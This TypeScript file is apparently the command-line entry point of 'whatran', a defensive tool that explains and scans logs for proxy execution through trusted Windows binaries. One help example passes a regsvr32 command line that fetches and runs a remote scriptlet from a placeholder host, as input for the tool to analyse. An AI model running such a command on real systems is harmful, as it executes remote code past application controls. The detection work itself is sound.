import { Command, CommanderError } from "commander";
import { WhatranError } from "../errors.ts";
import { visible, visibleLines } from "../outputs/escape.ts";
import { style } from "../outputs/style.ts";
import { VERSION } from "../version.ts";
import type { CommandInfo } from "./commands/index.ts";
import { EXIT } from "./exit.ts";
import { columnsOf, type Io, wantsColour } from "./io.ts";

const ABOUT = `For every run of a trusted binary: what it really ran, whether that is normal here,
and what would have stopped it (MITRE ATT&CK T1218, System Binary Proxy Execution).`;

const EXAMPLES = `
Examples:
  whatran explain 'regsvr32 /s /i:http://example.net/a.sct scrobj.dll'
  whatran scan ./logs                              findings of all logs in a folder
  whatran scan ./logs -o report.html -o all.csv    a page to read, a table to sort
  whatran scan ./logs -m high | jq .commandLine    a stream for other programs

Exit codes: 0 done; 1 findings at or above --fail-level; 2 wrong usage or configuration;
            3 some input could not be read; 130 interrupted`;

const HELP_WORDS = ["help", "-h", "--help"];

/** @param words how the command is called, as its error messages tell */
function paintHelp(command: Command, io: Io, words = command.name()): void {
  const colour = wantsColour(io, io.stdout);
  const paint = style(colour);
  command.configureHelp({
    helpWidth: Math.min(columnsOf(io.stdout), 110),
    styleTitle: paint.bold,
    styleCommandText: paint.accent,
    styleSubcommandText: paint.accent,
    styleOptionText: paint.accent,
    styleArgumentText: paint.accent,
    // A default is told as it is typed.
    styleOptionDescription: (text) => text.replace(/\(default: "(.*?)"\)/, "(default: $1)"),
  });
  command.configureOutput({
    writeOut: (text) => io.stdout.write(text),
    writeErr: (text) => io.stderr.write(text),
    // What was typed is repeated in the message. All errors have one voice.
    outputError: (text, write) => write(visibleLines(text.replace(/^error: /, "whatran: "))),
    getOutHasColors: () => colour,
    getErrHasColors: () => wantsColour(io, io.stderr),
  });
  command.showHelpAfterError(`see ${words} --help`);
  command.exitOverride();
  if (command.parent && command.commands.length > 0) command.helpCommand("help [command]", "print help for a command");
  for (const sub of command.commands) paintHelp(sub, io, `${words} ${sub.name()}`);
}

/** The program with all commands named, and the chosen one defined. */
async function build(
  argv: readonly string[],
  commands: readonly CommandInfo[],
  io: Io,
  done: (code: number) => void,
): Promise<Command> {
  const program = new Command("whatran");
  program
    .description(ABOUT)
    .version(VERSION, "-V, --version", "print the version")
    .helpOption("-h, --help", "print help; each command has its own")
    .helpCommand(false)
    .addHelpText("after", EXAMPLES)
    .showSuggestionAfterError();
  const [chosen, subject] = argv.filter((arg) => !arg.startsWith("-"));
  for (const info of commands) {
    const command = program.command(info.name).summary(info.summary).helpGroup(info.group);
    if (info.name === chosen || (chosen === "help" && info.name === subject))
      (await info.load()).define(command, io, done);
  }
  paintHelp(program, io);
  for (const command of program.commands) {
    const hint = commands.find(({ name }) => name === command.name())?.hint;
    if (hint !== undefined) command.showHelpAfterError(`${hint}; see whatran ${command.name()} --help`);
  }
  return program;
}

/** `whatran help scan` and `whatran --help scan` are `whatran scan --help`; what is no command has no help. */
function withHelpLast(argv: readonly string[], commands: readonly CommandInfo[]): readonly string[] {
  const words = argv.filter((arg) => !HELP_WORDS.includes(arg));
  const isKnown = words.length === 0 || commands.some(({ name }) => name === words[0]);
  if (!isKnown && words[0]?.startsWith("-") === false) return words;
  return HELP_WORDS.includes(argv[0] ?? "") ? [...argv.slice(1), "--help"] : argv;
}

/** Runs a command line, which may name one of the commands, and yields its exit code. Throws only for bugs of our own. */
export async function run(argv: readonly string[], commands: readonly CommandInfo[], io: Io): Promise<number> {
  let code: number = EXIT.done;
  try {
    const program = await build(argv, commands, io, (result) => {
      code = result;
    });
    if (argv.length === 0) program.outputHelp();
    else await program.parseAsync(withHelpLast(argv, commands), { from: "user" });
    return code;
  } catch (error) {
    if (error instanceof CommanderError) return error.exitCode === 0 ? EXIT.done : EXIT.usage;
    if (error instanceof WhatranError) {
      io.stderr.write(`whatran: ${visibleLines(error.message)}\n`);
      return EXIT.usage;
    }
    if (isRefusal(error)) {
      io.stderr.write(`whatran: ${visible(error.message)}\n`);
      return EXIT.usage;
    }
    throw error;
  }
}

/** What the system refused: a folder that is missing, a file that may not be written, a disk that is full. */
function isRefusal(error: unknown): error is NodeJS.ErrnoException {
  const { syscall, code } = error as NodeJS.ErrnoException;
  return error instanceof Error && syscall !== undefined && code !== undefined;
}
